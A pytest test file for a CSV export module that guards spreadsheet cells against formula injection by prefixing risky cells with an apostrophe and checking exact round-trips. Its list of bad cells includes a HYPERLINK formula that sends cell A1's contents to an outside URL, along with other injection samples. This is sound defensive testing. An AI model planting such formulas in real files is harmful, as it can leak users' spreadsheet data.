"""CSV for spreadsheet programs: no text of an article becomes a formula, and every text comes back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from made_events import actor, event, exported, fill, record

from dragoman.formats.comparing import Comparison, compared
from dragoman.formats.eventsets import event_set
from dragoman.formats.spreadsheet import MARK, SIGNS, guarded, unguarded, write_rows
from dragoman.interfaces.cli.options import TableFormat
from dragoman.interfaces.cli.tables import print_rows
from dragoman.library import Library

BAD = ('=HYPERLINK("http://example.org/?"&A1,"more")', "+1 555", "-3 degrees", "@SUM(A1:A9)", "\t=1+1", "\r=1", "＝1+1")


def rows(data: bytes) -> list[dict[str, str]]:
    text = data.decode()
    assert text.startswith(MARK), "these programs know UTF-8 by its mark"
    return list(csv.DictReader(io.StringIO(text.removeprefix(MARK), newline="")))


@pytest.mark.parametrize("cell", BAD)
def test_a_text_that_would_be_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert guarded(cell) == "'" + cell
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", [-9.3, 7, None, "Iran did not attack Israel.", "'tis said", "2023-03-29", "a=b", ""])
def test_numbers_and_other_texts_stay_as_they_are(cell: object) -> None:
    assert guarded(cell) == cell


@given(st.text(alphabet="'=+-@\t\r\nab ＝", max_size=6) | st.text(max_size=20))
def test_every_text_comes_back_and_none_begins_with_a_sign(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell
    assert not guarded(cell) or guarded(cell)[0] not in SIGNS.replace("\\", "")


@given(st.lists(st.fixed_dictionaries({"a": st.text(), "b": st.text()}), min_size=1, max_size=4))
def test_written_rows_come_back(told: list[dict[str, str]]) -> None:
    for guard in (True, False):
        stream = io.BytesIO()
        assert write_rows(told, ["a", "b"], stream, guard=guard) == len(told)
        text = stream.getvalue().decode().removeprefix(MARK) if guard else stream.getvalue().decode()
        found = list(csv.DictReader(io.StringIO(text, newline="")))
        assert [{name: unguarded(cell) for name, cell in row.items()} if guard else row for row in found] == told


def test_an_export_for_spreadsheets_has_the_rows_of_the_exact_one(library: Library) -> None:
    found = [{name: unguarded(cell) for name, cell in row.items()} for row in rows(exported(library, "spreadsheet"))]
    assert found == list(csv.DictReader(io.StringIO(exported(library, "csv").decode(), newline="")))
    assert any(row["plover_score"].startswith("-") for row in found), "a number below nought is no formula"


def test_an_export_for_spreadsheets_is_compared_as_what_it_was(tmp_path: Path) -> None:
    text = "=1+1 Border Watch accused Iran of arming the group."
    sides = (
        actor(text, "Border Watch", "organisation/border-watch", None, "CVL"),
        actor(text, "Iran", "country/IRN", "IRN", "GOV"),
    )
    told = event(text, "accused", "accuse-aggression", "1123", "border-watch", "IRN")
    files = {}
    with Library(tmp_path / "library.db", create=True) as library:
        fill(library, record(text, "2023-03-29", sides, (told,)))
        for form in ("csv", "spreadsheet"):
            files[form] = tmp_path / f"{form}.csv"
            files[form].write_bytes(exported(library, form))
    assert b"'=1+1" in files["spreadsheet"].read_bytes() and b"'=1+1" not in files["csv"].read_bytes()
    exact, guard = (event_set(str(path), None, None) for path in files.values())
    assert guard.kind == "CSV"
    with compared(exact, guard, Comparison()) as both:
        (found,) = both.events()
    assert found["status"] == "matched" and found["sentence"] == found["other_sentence"] == text, found


@pytest.mark.parametrize("form", ["csv", "spreadsheet"])
def test_rows_of_the_command_line_are_exact_or_for_spreadsheets(tmp_path: Path, form: str) -> None:
    path = tmp_path / "rows.csv"
    print_rows([{"title": "=1+1", "score": -2.0, "of": ["-a", "b"]}], [], TableFormat(form), nothing="", output=path)
    text = path.read_text(encoding="utf-8")
    assert text == (
        "title,score,of\n=1+1,-2.0,-a;b\n" if form == "csv" else MARK + "title,score,of\n'=1+1,-2.0,'-a;b\n"
    )
